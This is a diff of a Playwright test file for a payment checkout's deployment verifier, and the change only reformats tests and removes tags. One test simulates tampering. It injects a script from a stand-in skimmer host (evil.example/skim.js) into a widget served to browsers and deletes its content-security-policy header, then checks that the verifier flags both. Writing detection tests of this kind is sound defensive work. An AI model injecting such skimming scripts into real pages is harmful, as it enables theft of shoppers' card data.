@@ -36,43 +36,39 @@ test('verify-deployment finds no difference, and then a changed byte, header and
 });
 
 // Opens every page of the checkout.
-test(
-  'verify-deployment finds what only browsers get, and in a browser what ran',
-  { tag: '@full' },
-  async () => {
-    test.slow();
-    const skimmer = 'https://evil.example/skim.js';
-    await withTampering(
-      urls.checkout,
-      (path, answer, { headers }) => {
-        if (path === '/pf/widget' && headers['user-agent']?.startsWith('Mozilla'))
-          answer.body += `<script src="${skimmer}"></script><script>window.skimmed = true</script>`;
-        // Its policy would stop both.
-        if (path === '/pf/widget' && headers['sec-fetch-mode'] === 'navigate')
-          answer.headers.delete('content-security-policy');
-      },
-      async (url) => {
-        const asBrowser = await verify(url);
-        expect(asBrowser.code).toBe(1);
-        expect(asBrowser.lines).toContain(
-          `/pf/widget: for Chrome, loads ${skimmer}, which the manifest does not name`,
-        );
-        const inBrowser = await verify(url, '--browser', process.env['CHROMIUM_PATH'] ?? '');
-        expect(inBrowser.lines).toEqual(
-          expect.arrayContaining([
-            `/pf/widget: in Chromium, loads ${skimmer}, which the manifest does not name`,
-            expect.stringMatching(/^\/pf\/widget: in Chromium, is not what was released/),
-            `/pf/widget: in Chromium, requested ${skimmer}, whose origin is not in config.js`,
-            '/pf/widget: in Chromium, ran code that is in no file, which begins "window.skimmed = true"',
-            expect.stringMatching(/^Scripts that ran in Chromium: .*\/assets\/main-\w+\.js/),
-          ]),
-        );
-        // Nothing else that ran differs.
-        expect(inBrowser.lines.filter((line) => line.includes('in Chromium, '))).toHaveLength(5);
-      },
-    );
-  },
-);
+test('verify-deployment finds what only browsers get, and in a browser what ran', async () => {
+  test.slow();
+  const skimmer = 'https://evil.example/skim.js';
+  await withTampering(
+    urls.checkout,
+    (path, answer, { headers }) => {
+      if (path === '/pf/widget' && headers['user-agent']?.startsWith('Mozilla'))
+        answer.body += `<script src="${skimmer}"></script><script>window.skimmed = true</script>`;
+      // Its policy would stop both.
+      if (path === '/pf/widget' && headers['sec-fetch-mode'] === 'navigate')
+        answer.headers.delete('content-security-policy');
+    },
+    async (url) => {
+      const asBrowser = await verify(url);
+      expect(asBrowser.code).toBe(1);
+      expect(asBrowser.lines).toContain(
+        `/pf/widget: for Chrome, loads ${skimmer}, which the manifest does not name`,
+      );
+      const inBrowser = await verify(url, '--browser', process.env['CHROMIUM_PATH'] ?? '');
+      expect(inBrowser.lines).toEqual(
+        expect.arrayContaining([
+          `/pf/widget: in Chromium, loads ${skimmer}, which the manifest does not name`,
+          expect.stringMatching(/^\/pf\/widget: in Chromium, is not what was released/),
+          `/pf/widget: in Chromium, requested ${skimmer}, whose origin is not in config.js`,
+          '/pf/widget: in Chromium, ran code that is in no file, which begins "window.skimmed = true"',
+          expect.stringMatching(/^Scripts that ran in Chromium: .*\/assets\/main-\w+\.js/),
+        ]),
+      );
+      // Nothing else that ran differs.
+      expect(inBrowser.lines.filter((line) => line.includes('in Chromium, '))).toHaveLength(5);
+    },
+  );
+});
 
 test('nginx serves the files in front of the provider: nothing differs, and a card payment succeeds', async ({
   context,
@@ -141,49 +137,48 @@ test.describe('by hand', () => {
   // The certificate is the test's own.
   test.use({ ignoreHTTPSErrors: true });
 
-  test(
-    'a provider who follows the docs on Debian serves over HTTP/2 with brotli, and a shop is paid through it',
-    { tag: '@full' },
-    async ({ context, page }) => {
-      test.slow();
-      const shop = urls.store;
-      await context.grantPermissions(['local-network-access']);
-      await page.route(`${shop}/tienda`, (route) =>
-        route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Una tienda</title>' }),
+  test('a provider who follows the docs on Debian serves over HTTP/2 with brotli, and a shop is paid through it', async ({
+    context,
+    page,
+  }) => {
+    test.slow();
+    const shop = urls.store;
+    await context.grantPermissions(['local-network-access']);
+    await page.route(`${shop}/tienda`, (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Una tienda</title>' }),
+    );
+    await deployByHand({ provider: urls.checkout, holder: shop, config: CONFIG }, async (served) => {
+      const { url, certificate } = served;
+      const list = JSON.parse(
+        readFileSync(join(root, 'packages/checkout/dist/app/scripts.json'), 'utf8'),
+      ) as { scripts: { path: string; bytes: number }[] };
+      const assets = list.scripts.filter(
+        ({ path, bytes }) => /^\/assets\/.*\.(js|css)$/.test(path) && bytes >= 1024,
       );
-      await deployByHand({ provider: urls.checkout, holder: shop, config: CONFIG }, async (served) => {
-        const { url, certificate } = served;
-        const list = JSON.parse(
-          readFileSync(join(root, 'packages/checkout/dist/app/scripts.json'), 'utf8'),
-        ) as { scripts: { path: string; bytes: number }[] };
-        const assets = list.scripts.filter(
-          ({ path, bytes }) => /^\/assets\/.*\.(js|css)$/.test(path) && bytes >= 1024,
-        );
-        expect(assets.length).toBeGreaterThan(50);
-        for (const { path } of assets.slice(0, 10))
-          expect(await overHttp2(url, path)).toEqual({ status: 200, encoding: 'br' });
-        const verified = await verifyTrusting(certificate, url);
-        expect(verified.lines.at(-1)).toMatch(/nothing differs\.$/);
+      expect(assets.length).toBeGreaterThan(50);
+      for (const { path } of assets.slice(0, 10))
+        expect(await overHttp2(url, path)).toEqual({ status: 200, encoding: 'br' });
+      const verified = await verifyTrusting(certificate, url);
+      expect(verified.lines.at(-1)).toMatch(/nothing differs\.$/);
 
-        await page.goto(`${shop}/tienda`);
-        await page.addScriptTag({ url: `${url}/v1/checkout.js` });
-        const result = openBy(page, { code: 'LK-CAFE0001' });
-        const frame = page.frameLocator('iframe');
-        await payByCard(frame, cards.visa);
-        await expect(frame.getByRole('heading', { name: 'Comprobante de pago' })).toBeVisible();
-        const checkout = page.frames().find((one) => one.url().startsWith(url));
-        const protocols = await checkout?.evaluate(() =>
-          performance
-            .getEntriesByType('resource')
-            .map((entry) => (entry as PerformanceResourceTiming).nextHopProtocol),
-        );
-        expect(protocols).toContain('h2');
-        expect(protocols).not.toContain('http/1.1');
-        await frame.getByRole('button', { name: 'Volver al comercio' }).click();
-        expect(await result).toMatchObject({ outcome: 'approved', paid: true });
-      });
-    },
-  );
+      await page.goto(`${shop}/tienda`);
+      await page.addScriptTag({ url: `${url}/v1/checkout.js` });
+      const result = openBy(page, { code: 'LK-CAFE0001' });
+      const frame = page.frameLocator('iframe');
+      await payByCard(frame, cards.visa);
+      await expect(frame.getByRole('heading', { name: 'Comprobante de pago' })).toBeVisible();
+      const checkout = page.frames().find((one) => one.url().startsWith(url));
+      const protocols = await checkout?.evaluate(() =>
+        performance
+          .getEntriesByType('resource')
+          .map((entry) => (entry as PerformanceResourceTiming).nextHopProtocol),
+      );
+      expect(protocols).toContain('h2');
+      expect(protocols).not.toContain('http/1.1');
+      await frame.getByRole('button', { name: 'Volver al comercio' }).click();
+      expect(await result).toMatchObject({ outcome: 'approved', paid: true });
+    });
+  });
 });
 
 function connects(url: string): Promise<boolean> {
